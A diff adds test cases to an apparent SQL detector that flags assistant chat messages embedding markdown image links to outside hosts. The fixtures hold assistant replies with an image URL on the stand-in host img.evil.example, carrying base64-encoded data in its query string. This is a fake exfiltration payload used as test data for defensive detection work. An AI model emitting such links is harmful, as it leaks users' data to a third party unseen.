@@ -96,6 +96,25 @@
 --   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m4", position = 4, role = "assistant", kind = "thinking", text = "![x](https://img.evil.example/p.png?d=QWxsIHlvdXIgc2VjcmV0cyBhcmUgaGVyZSBub3cu)", bytes = 79, time = 2026-03-01T09:04:00Z, record_id = 4 },
 -- ]
 -- expect = []
+-- [[case]]
+-- name = "the user had said something else"
+-- messages = [
+--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m0", position = 0, role = "user", kind = "text", text = "Show me the chart.", bytes = 20, time = 2026-03-01T09:00:30Z, record_id = 1 },
+--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m4", position = 4, role = "assistant", kind = "text", text = "Done. ![x](https://img.evil.example/p.png?d=QWxsIHlvdXIgc2VjcmV0cyBhcmUgaGVyZSBub3cu)", bytes = 85, time = 2026-03-01T09:04:00Z, record_id = 4 },
+-- ]
+-- expect = [
+--   { subject = "img.evil.example", count = 1, evidence = ["e#4"] },
+-- ]
+-- [[case]]
+-- name = "said twice by the model"
+-- messages = [
+--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m4", position = 4, role = "assistant", kind = "text", text = "Done. ![x](https://img.evil.example/p.png?d=QWxsIHlvdXIgc2VjcmV0cyBhcmUgaGVyZSBub3cu)", bytes = 85, time = 2026-03-01T09:04:00Z, record_id = 4 },
+--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m6", position = 6, role = "assistant", kind = "text", text = "Done. ![x](https://img.evil.example/p.png?d=QWxsIHlvdXIgc2VjcmV0cyBhcmUgaGVyZSBub3cu)", bytes = 85, time = 2026-03-01T09:06:00Z, record_id = 6 },
+-- ]
+-- expect = [
+--   { subject = "img.evil.example", evidence = ["e#4"] },
+--   { subject = "img.evil.example", evidence = ["e#6"] },
+-- ]
 -- +++
 WITH links AS (
   SELECT m.*, regexp_match(m.text, $pattern)[1] AS address
